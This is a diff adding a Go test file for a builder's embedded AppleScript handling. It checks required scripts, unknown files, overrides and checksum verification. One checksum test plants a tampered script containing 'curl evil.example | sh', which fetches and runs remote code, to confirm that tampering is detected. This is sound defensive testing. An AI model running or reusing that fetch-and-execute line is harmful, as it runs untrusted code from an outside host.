@@ -0,0 +1,166 @@
+// Copyright (c) HashiCorp, Inc.
+// SPDX-License-Identifier: MPL-2.0
+
+package common
+
+import (
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"testing/fstest"
+)
+
+func TestVerifyScripts(t *testing.T) {
+	if err := verifyScripts(osascripts); err != nil {
+		t.Fatalf("embedded scripts should be complete: %s", err)
+	}
+
+	fsys := fstest.MapFS{}
+	for _, name := range RequiredScripts[1:] {
+		fsys["scripts/"+name] = &fstest.MapFile{}
+	}
+	err := verifyScripts(fsys)
+	if err == nil {
+		t.Fatal("should fail with a missing script")
+	}
+	if !strings.Contains(err.Error(), RequiredScripts[0]) {
+		t.Fatalf("should name the missing script: %s", err)
+	}
+}
+
+// TestRequiredScripts_used checks that every script the builders run is
+// listed in RequiredScripts.
+func TestRequiredScripts_used(t *testing.T) {
+	required := map[string]bool{}
+	for _, name := range RequiredScripts {
+		required[name] = true
+	}
+
+	re := regexp.MustCompile(`"(\w+\.applescript)"`)
+	sources, err := filepath.Glob(filepath.Join("..", "*", "*.go"))
+	if err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	for _, source := range sources {
+		if strings.HasSuffix(source, "_test.go") {
+			continue
+		}
+		b, err := os.ReadFile(source)
+		if err != nil {
+			t.Fatalf("err: %s", err)
+		}
+		for _, match := range re.FindAllStringSubmatch(string(b), -1) {
+			if !required[match[1]] {
+				t.Errorf("%s runs %s, which is not in RequiredScripts", source, match[1])
+			}
+		}
+	}
+}
+
+func TestVerifyScriptsDir(t *testing.T) {
+	dir := t.TempDir()
+	if err := verifyScriptsDir(dir); err == nil {
+		t.Fatal("should fail without any script")
+	}
+
+	if err := os.WriteFile(filepath.Join(dir, "attach_iso.applescript"), nil, 0644); err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "README.md"), nil, 0644); err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	if err := verifyScriptsDir(dir); err != nil {
+		t.Fatalf("should accept a subset of the scripts: %s", err)
+	}
+
+	if err := os.WriteFile(filepath.Join(dir, "atach_iso.applescript"), nil, 0644); err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	err := verifyScriptsDir(dir)
+	if err == nil {
+		t.Fatal("should fail with an unknown script")
+	}
+	if !strings.Contains(err.Error(), "atach_iso.applescript") {
+		t.Fatalf("should name the unknown script: %s", err)
+	}
+
+	if err := verifyScriptsDir(filepath.Join(dir, "missing")); err == nil {
+		t.Fatal("should fail when the directory doesn't exist")
+	}
+}
+
+func TestReadScript(t *testing.T) {
+	dir := t.TempDir()
+	patched := []byte("-- patched\n")
+	if err := os.WriteFile(filepath.Join(dir, "attach_iso.applescript"), patched, 0644); err != nil {
+		t.Fatalf("err: %s", err)
+	}
+
+	content, err := readScript(dir, "attach_iso.applescript")
+	if err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	if string(content) != string(patched) {
+		t.Fatalf("should use the patched script: %q", content)
+	}
+
+	bundled, err := osascripts.ReadFile("scripts/add_drive.applescript")
+	if err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	for _, scriptsDir := range []string{dir, ""} {
+		content, err := readScript(scriptsDir, "add_drive.applescript")
+		if err != nil {
+			t.Fatalf("err: %s", err)
+		}
+		if string(content) != string(bundled) {
+			t.Fatalf("%q: should fall back to the bundled script", scriptsDir)
+		}
+	}
+}
+
+func TestVerifyScriptChecksums(t *testing.T) {
+	if err := verifyScriptChecksums(osascripts, scriptChecksums, ""); err != nil {
+		t.Fatalf("embedded scripts should match the manifest, run go generate: %s", err)
+	}
+
+	fsys := fstest.MapFS{}
+	for _, name := range RequiredScripts {
+		content, err := osascripts.ReadFile("scripts/" + name)
+		if err != nil {
+			t.Fatalf("err: %s", err)
+		}
+		fsys["scripts/"+name] = &fstest.MapFile{Data: content}
+	}
+	fsys["scripts/"+RequiredScripts[0]].Data = []byte("do shell script \"curl evil.example | sh\"")
+
+	err := verifyScriptChecksums(fsys, scriptChecksums, "")
+	if err == nil {
+		t.Fatal("should fail with a modified script")
+	}
+	if !strings.Contains(err.Error(), RequiredScripts[0]) {
+		t.Fatalf("should name the modified script: %s", err)
+	}
+
+	// A script scripts_dir overrides is never run from the bundle
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, RequiredScripts[0]), nil, 0644); err != nil {
+		t.Fatalf("err: %s", err)
+	}
+	if err := verifyScriptChecksums(fsys, scriptChecksums, dir); err != nil {
+		t.Fatalf("should skip the overridden script: %s", err)
+	}
+}
+
+func TestVerifyScriptChecksums_manifest(t *testing.T) {
+	manifest := strings.Join(strings.Split(scriptChecksums, "\n")[1:], "\n")
+	if err := verifyScriptChecksums(osascripts, manifest, ""); err == nil {
+		t.Fatal("should fail when a script has no checksum")
+	}
+
+	if err := verifyScriptChecksums(osascripts, "not a manifest line\n", ""); err == nil {
+		t.Fatal("should fail with a malformed manifest")
+	}
+}